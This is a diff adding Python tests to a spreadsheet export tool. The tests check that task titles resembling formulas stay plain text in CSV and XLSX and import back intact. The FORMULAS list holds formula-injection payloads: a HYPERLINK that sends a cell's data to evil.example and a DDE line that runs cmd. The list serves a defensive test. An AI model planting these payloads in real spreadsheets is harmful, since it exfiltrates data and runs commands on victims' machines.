@@ -130,3 +130,36 @@ def test_a_sheet_without_the_hygiene_column_keeps_it_and_a_bad_class_names_the_r
     wrong = "id,supplier,title,location,skills,slots,hygiene\nT01,asito,x,edu,,ma 07:00-09:00,vies\n".encode()
     merge_rows(tables, read_tasks_csv(wrong))
     assert "task T01, field hygiene" in check_tables(tables).by_row[("tasks", 1)][0]
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_titles_that_look_like_formulas_stay_text_in_csv_and_xlsx_and_round_trip():
+    """A title starting with = + - @ tab or CR is no live formula in either export, and imports back unchanged."""
+    tables = tutorial_tables()
+    rows = tables.rows["tasks"][:len(FORMULAS)]
+    for row, title in zip(rows, FORMULAS):
+        row["title"] = title
+    text = tasks_csv(rows).decode("utf-8-sig")
+    cells = [line.split(",", 3)[2] for line in text.splitlines()[1:]]
+    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    book = load_workbook(io.BytesIO(tasks_xlsx(rows)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for c in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert set(FORMULAS) <= {c.value for c in cells}
+    for read, data in ((read_tasks_csv, tasks_csv(rows)), (read_tasks_xlsx, tasks_xlsx(rows))):
+        back = {r["id"]: r["title"] for r in read(data)}
+        assert [back[r["id"]] for r in rows] == [t.strip() for t in FORMULAS]
+
+
+def test_a_supplier_id_that_cannot_name_a_sheet_gets_a_clean_sheet_and_a_supplier_column():
+    """`Schoon/Snel: [BV]` cannot be a sheet title: the sheet is renamed, the id rides along and imports back."""
+    tables = tutorial_tables()
+    rows = [dict(r, supplier="Schoon/Snel: [BV]" if r["supplier"] == "asito" else r["supplier"])
+            for r in tables.rows["tasks"]]
+    book = load_workbook(io.BytesIO(tasks_xlsx(rows)))
+    assert "SchoonSnel BV" in book.sheetnames and all(len(name) <= 31 for name in book.sheetnames)
+    back = read_tasks_xlsx(tasks_xlsx(rows))
+    assert sorted((r["id"], r["supplier"]) for r in back) == sorted((r["id"], r["supplier"]) for r in rows)
